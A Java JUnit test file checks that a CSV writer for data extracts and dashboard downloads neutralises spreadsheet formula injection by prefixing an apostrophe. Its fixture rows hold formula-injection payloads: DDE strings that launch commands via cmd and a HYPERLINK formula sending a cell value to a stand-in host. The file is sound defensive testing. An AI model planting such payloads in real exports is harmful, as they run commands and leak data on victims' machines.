package org.mizan.extract;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mizan.dashboard.Csv;
import org.mizan.warehouse.ReadOnlyQuery;

/**
 * Text a spreadsheet would run as a formula reaches neither an extract's CSV nor a dashboard download as a
 * formula: one guard (CsvWriter) writes it with a leading apostrophe; numbers, negative ones too, stay numbers.
 */
class FormulaCellsTest {

    @TempDir
    Path dir;

    private static final List<String> COLUMNS = List.of("unit_code", "name", "amount");

    private static final List<List<Object>> ROWS = List.of(
            Arrays.asList("NP-P1", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", new BigDecimal("-12.5000")),
            Arrays.asList("NP-P2", "+cmd|' /C calc'!A0", new BigDecimal("3")),
            Arrays.asList("NP-P3", "@SUM(1+1)*cmd|' /C calc'!A0", null),
            Arrays.asList("NP-P4", "-2+3+cmd|' /C calc'!A0", -7),
            Arrays.asList("NP-P5", "\t=1+1", "1e5"),
            Arrays.asList("NP-P6", "\r=1+1", "-0.5"),
            Arrays.asList("NP-P7", "Dhankuta = 1st", "+4"));

    private static final List<String> EXPECTED = List.of(
            "unit_code,name,amount",
            "NP-P1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",-12.5000",
            "NP-P2,'+cmd|' /C calc'!A0,3",
            "NP-P3,'@SUM(1+1)*cmd|' /C calc'!A0,",
            "NP-P4,'-2+3+cmd|' /C calc'!A0,-7",
            "NP-P5,'\t=1+1,1e5",
            "NP-P6,\"'\r=1+1\",-0.5",
            "NP-P7,Dhankuta = 1st,+4");

    @Test
    void anExtractsCsvWritesFormulasAsText() throws IOException {
        // given a view's rows holding formula text
        Path file = dir.resolve("scorecard.csv");
        // when the extract writes its CSV
        ExtractFiles.csv(new Table(null, COLUMNS, ROWS), file);
        // then every formula starts with an apostrophe and the numbers are as they were
        assertThat(Files.readString(file, StandardCharsets.UTF_8)).isEqualTo(String.join("\r\n", EXPECTED) + "\r\n");
    }

    @Test
    void aDashboardDownloadWritesFormulasAsText() throws IOException {
        // the whole result at once, and streamed row by row as a download is (CRLF line ends, as every CSV file)
        assertThat(Csv.of(new ReadOnlyQuery.Result(COLUMNS, ROWS))).isEqualTo(String.join("\r\n", EXPECTED) + "\r\n");
        java.io.StringWriter w = new java.io.StringWriter();
        ReadOnlyQuery.RowSink sink = Csv.writer(w);
        sink.columns(COLUMNS);
        for (List<Object> row : ROWS) {
            sink.row(row);
        }
        assertThat(w.toString()).isEqualTo(String.join("\r\n", EXPECTED) + "\r\n");
    }
}
